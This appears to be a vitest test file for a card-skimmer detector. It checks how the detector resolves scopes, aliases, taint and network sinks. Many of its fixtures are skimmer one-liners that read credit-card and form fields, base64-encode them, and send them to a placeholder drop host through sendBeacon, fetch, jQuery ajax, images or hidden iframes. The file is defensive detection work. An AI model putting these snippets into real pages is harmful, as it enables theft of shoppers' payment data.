import { describe, expect, it } from 'vitest'
import { factsOf as collect } from './detector/facts-of.ts'
import { analyzeScript } from '../../detector/index.ts'

const factsOf = (source: string) => collect(source, { sinks: true })

// Constants and aliases resolve through lexical scopes: a skimmer's short names must not be
// confused with a library's identical minified names in the same file.

const sinkUrls = (source: string): (string | undefined)[] =>
  factsOf(source).sinks.map((s) => s.urlText)

const DROP = 'https://drop.example.test/c'

describe('scope-aware constants', () => {
  // source → the URL the one sink in it must resolve to (undefined: not a constant)
  const cases: [string, string, string | undefined][] = [
    [
      'a function-scoped var shadows an outer one of the same name',
      `!function(){var u=1;u=2}();(function(){var u='${DROP}';navigator.sendBeacon(u,'x')})()`,
      DROP,
    ],
    [
      'an outer var is not changed by an inner function reassigning its own',
      `var u='${DROP}';function f(){var u;u=1;u=2}navigator.sendBeacon(u,'x')`,
      DROP,
    ],
    [
      'let in a block is not the let outside it',
      `let u='${DROP}';{let u='https://other.test/';u+='x'}navigator.sendBeacon(u,'x')`,
      DROP,
    ],
    [
      'a parameter hides an outer constant',
      `var u='${DROP}';function f(u){navigator.sendBeacon(u,'x')}`,
      undefined,
    ],
    [
      'a var assigned before its hoisted declaration is still one constant',
      `function f(){u='${DROP}';navigator.sendBeacon(u,'x');var u}`,
      DROP,
    ],
    [
      'a var assigned twice is not a constant',
      `var u='${DROP}';u='https://b.test/';navigator.sendBeacon(u,'x')`,
      undefined,
    ],
    [
      'an IIFE argument binds its parameter',
      `(function(h){navigator.sendBeacon(h,'x')})('${DROP}')`,
      DROP,
    ],
    [
      'a reassigned IIFE parameter is not a constant',
      `(function(h){h=h+'?';navigator.sendBeacon(h,'x')})('${DROP}')`,
      undefined,
    ],
    [
      'a counter mutated by ++ is not a constant',
      `var i='${DROP}';i++;navigator.sendBeacon(i,'x')`,
      undefined,
    ],
  ]
  it.each(cases)('%s', (_what, source, url) => {
    expect(sinkUrls(source)).toEqual([url])
  })
})

describe('jQuery through a renamed parameter', () => {
  const post = (q: string): string =>
    `${q}.ajax({url:'${DROP}',type:'POST',data:{c:btoa(${q}('#cc-number').val())}})`

  it.each([
    ['an IIFE', `(function(q){${post('q')}})(jQuery)`],
    ['an IIFE via .call', `(function(q){${post('q')}}).call(this,window.jQuery)`],
    ['a ready handler', `jQuery(document).ready(function(z){${post('z')}})`],
    ['a jQuery(fn) handler', `jQuery(function(z){${post('z')}})`],
    ['a local alias', `(function(){var k=jQuery;${post('k')}})()`],
  ])('is a jQuery ajax sink in %s', (_how, source) => {
    const sinks = factsOf(source).sinks
    expect(sinks.map((s) => [s.kind, s.urlText])).toEqual([['jquery-ajax', DROP]])
    expect(analyzeScript(source).verdict).toBe('malicious')
  })

  it('is not a sink when the parameter is something else', () => {
    expect(factsOf(`(function(q){${post('q')}})(Math)`).sinks).toEqual([])
  })
})

describe('the global object as a wrapper picks it', () => {
  const send = (g: string): string =>
    `${g}.fetch('${DROP}', { method: 'POST', body: btoa(${g}.document.querySelector('#cc-number').value) })`
  it.each([
    [
      'typeof window test',
      `(function(g){${send('g')}})(typeof window !== 'undefined' ? window : this)`,
    ],
    ['typeof self test', `(function(g){${send('g')}})("undefined" != typeof self ? self : void 0)`],
    ['window || global', `(function(g){${send('g')}})(window || global)`],
    [
      'a local alias',
      `(function(){var g = typeof globalThis !== 'undefined' ? globalThis : null;${send('g')}})()`,
    ],
  ])('is the page in %s', (_how, source) => {
    expect(factsOf(source).sinks.map((s) => [s.kind, s.urlText])).toEqual([['fetch', DROP]])
  })
  it('is not when a branch is some other object', () => {
    const source = `(function(g){${send('g')}})(typeof window !== 'undefined' ? window : sandbox)`
    expect(factsOf(source).sinks).toEqual([])
  })
})

describe('values merged into an object by a helper', () => {
  // the sink carries `acc`; form values reach it only through the merge
  const send = (merge: string): string =>
    `var acc={};var f={};var els=document.forms[0].elements;` +
    `for(var i=0;i<els.length;i++)f[els[i].name]=els[i].value;${merge};` +
    `new Image().src='${DROP}?d='+btoa(JSON.stringify(acc))`
  const carries = (source: string): string[] => {
    const sink = factsOf(source).sinks[0]
    return sink ? [...sink.layer.taint(sink.url as never)].sort() : []
  }

  it.each([
    ['Object.assign', 'Object.assign(acc,f)'],
    ['jQuery deep extend', 'jQuery.extend(true,acc,f)'],
    ['a local helper writing keys', 'function mix(t,s){for(var k in s)t[k]=s[k]}mix(acc,f)'],
    [
      'a local helper reading arguments',
      'function mix(t){var s=arguments[1];for(var k in s)t[k]=s[k]}mix(acc,f)',
    ],
  ])('taints the target through %s', (_how, merge) => {
    expect(carries(send(merge))).toEqual(expect.arrayContaining(['harvest', 'value']))
  })

  it('does not taint an argument the helper only reads', () => {
    const source = send('function look(t,s){return t.x===s.y}look(acc,f)')
    expect(carries(source)).not.toContain('value')
  })
})

describe('a URL given to an element jQuery makes from markup', () => {
  const kinds = (source: string): [string, string | undefined][] =>
    factsOf(source).sinks.map((s) => [s.kind, s.urlText])

  it.each([
    ['an image', `$('<img/>').attr('src','${DROP}'+x)`, 'image'],
    [
      'an iframe, styled first',
      `jQuery('<iframe width=0>').css('display','none').prop('src','${DROP}'+x)`,
      'element-src',
    ],
  ])('is a sink for %s', (_what, source, kind) => {
    expect(kinds(source)).toEqual([[kind, DROP]])
  })

  it.each([
    ['an element picked from the page', `$('#logo').attr('src','${DROP}'+x)`],
    ['markup that fetches nothing', `$('<div>').attr('href','${DROP}'+x)`],
    ['an attribute that is not a URL', `$('<img>').attr('alt','${DROP}'+x)`],
  ])('is not a sink for %s', (_what, source) => {
    expect(kinds(source)).toEqual([])
  })
})

describe('what a call gives back', () => {
  // what kinds of data reach the body of the beacon to `to`
  const beaconTaint = (source: string, to: string): string[] => {
    const sink = factsOf(source).sinks.find((s) => s.kind === 'beacon' && s.urlText === to)
    if (!sink) throw new Error(`no beacon to ${to}`)
    return [...new Set(sink.data.flatMap((n) => [...sink.layer.taint(n)]))].sort()
  }
  const card = `var pan=document.querySelector('#cc_number').value;`
  const OWN = '/own'
  const FAR = 'https://x.example.test/c'

  it("is a request's answer, not what the request carried", () => {
    const source =
      card +
      `var res=fetch('https://pay.example.test/t',{method:'POST',body:pan});` +
      `navigator.sendBeacon('${OWN}',JSON.stringify({r:res}))`
    expect(beaconTaint(source, OWN)).not.toContain('value')
  })

  it('is what a local function returns, not every argument it was handed', () => {
    const source =
      card +
      `function token(p,n){var r=fetch('https://pay.example.test/t',{method:'POST',body:p});return r}` +
      `navigator.sendBeacon('${OWN}',JSON.stringify({t:token(pan,1)}))`
    expect(beaconTaint(source, OWN)).not.toContain('value')
  })

  it.each([
    ['returned through a plain parameter', 'function f(x){return x}', 'f(pan)'],
    ['through a local wrapper named as a request', 'function ajax(d){return btoa(d)}', 'ajax(pan)'],
    [
      'read through arguments beside a parameter',
      'function f(a){return [].slice.call(arguments).join()}',
      'f(pan)',
    ],
    ['read through arguments', 'function f(){return arguments[0]}', 'f(pan)'],
    ['read through a rest parameter', 'function f(...xs){return xs[0]}', 'f(pan)'],
    ['read through a destructured parameter', 'function f({a}){return a}', 'f({a:pan})'],
    ['spread into the call', 'function f(x){return x}', 'f(...[pan])'],
  ])('still carries an argument %s', (_how, fn, call) => {
    const source = `${card}${fn}navigator.sendBeacon('${FAR}',${call})`
    expect(beaconTaint(source, FAR)).toContain('value')
  })
})
